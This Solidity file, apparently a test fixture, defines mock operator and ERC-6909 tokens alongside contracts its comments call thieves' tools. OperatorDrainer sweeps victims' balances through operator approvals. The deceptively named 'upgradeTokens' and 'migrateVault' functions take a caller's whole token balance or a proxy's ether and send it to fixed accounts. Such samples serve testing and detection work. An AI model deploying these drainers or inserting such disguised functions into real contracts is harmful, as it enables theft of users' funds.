// SPDX-License-Identifier: MIT
pragma solidity ^0.8.30;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {ERC6909} from "@openzeppelin/contracts/token/ERC6909/ERC6909.sol";

/// Coins with operators, and what thieves do with them. Test use only.

/// ERC-777's operators without its hooks.
contract OperatorCoin is ERC20 {
    mapping(address => mapping(address => bool)) public operators;

    event AuthorizedOperator(address indexed operator, address indexed holder);

    constructor() ERC20("Pike", "PIKE") {}

    function mint(address to, uint256 amount) external {
        _mint(to, amount);
    }

    function isOperatorFor(address operator, address holder) external view returns (bool) {
        return operators[holder][operator];
    }

    function authorizeOperator(address operator) external {
        operators[msg.sender][operator] = true;
        emit AuthorizedOperator(operator, msg.sender);
    }

    /// Several of its own calls at once, as newer coins have it.
    function multicall(bytes[] calldata calls) external {
        for (uint256 i = 0; i < calls.length; i++) {
            (bool done,) = address(this).delegatecall(calls[i]);
            require(done, "multicall");
        }
    }

    function operatorSend(address from, address to, uint256 amount, bytes calldata, bytes calldata) external {
        require(operators[from][msg.sender], "operator");
        _transfer(from, to, amount);
    }
}

/// ERC-6909.
contract ManyCoins is ERC6909 {
    function mint(address to, uint256 id, uint256 amount) external {
        _mint(to, id, amount);
    }
}

/// The thief's: obeys one account.
contract OperatorDrainer {
    address private immutable _owner = msg.sender;

    function sweep(address coin, address from, uint256 amount) external {
        require(msg.sender == _owner);
        OperatorCoin(coin).operatorSend(from, _owner, amount, "", "");
    }

    function sweepMany(address coin, address from, uint256 id) external {
        require(msg.sender == _owner);
        ManyCoins many = ManyCoins(coin);
        many.transferFrom(from, _owner, id, many.balanceOf(from, id));
    }
}

/// Takes all of a coin for itself, then shares it out among two accounts within the same call.
contract UpgradeDesk {
    address private immutable _one;
    address private immutable _other;

    constructor(address one, address other) {
        (_one, _other) = (one, other);
    }

    function upgradeTokens(IERC20 coin, uint256) external {
        uint256 all = coin.balanceOf(msg.sender);
        coin.transferFrom(msg.sender, address(this), all);
        coin.transfer(_other, all / 5);
        coin.transfer(_one, coin.balanceOf(address(this)));
    }
}

/// A script for a person's proxy that empties it.
contract EmptyingScript {
    address payable private immutable _to;

    constructor(address payable to) {
        _to = to;
    }

    function migrateVault() external {
        _to.transfer(address(this).balance);
    }
}
